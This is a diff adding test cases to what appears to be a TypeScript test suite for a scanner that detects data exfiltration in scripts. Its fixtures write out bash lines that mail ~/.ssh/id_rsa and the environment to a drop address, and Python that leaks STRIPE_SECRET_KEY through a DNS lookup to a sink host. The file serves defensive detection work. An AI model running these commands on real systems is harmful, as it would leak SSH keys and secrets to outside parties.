@@ -83,6 +83,21 @@ const cases: Case[] = [
     ],
   },
   {
+    name: 'shell mailers: a key piped to mail, the environment attached with mutt',
+    path: 'scripts/report.sh',
+    text: '#!/bin/bash\ncat ~/.ssh/id_rsa | mail -s "weekly" drop@inbox-relay.net\nenv > /tmp/e.txt\nmutt -s r -a /tmp/e.txt -- drop@inbox-relay.net < /dev/null\n',
+    expect: [
+      ['PE3', 2],
+      ['E2', 3],
+    ],
+  },
+  {
+    name: 'no flow: a shell mailer sends a build log to the address the user gives',
+    path: 'scripts/notify.sh',
+    text: '#!/bin/bash\nset -euo pipefail\nmake build 2>&1 | tail -50 | mail -s "build finished" "$1"\n',
+    absent: ['E1', 'E2', 'PE3'],
+  },
+  {
     name: 'DNS: a secret encoded into a hostname resolved by socket.gethostbyname and by dig',
     path: 'scripts/ping.py',
     text: 'import os, socket\nlabel = os.environ["STRIPE_SECRET_KEY"].encode().hex()[:60]\nsocket.gethostbyname(f"{label}.n.lookup-sink.net")\n',
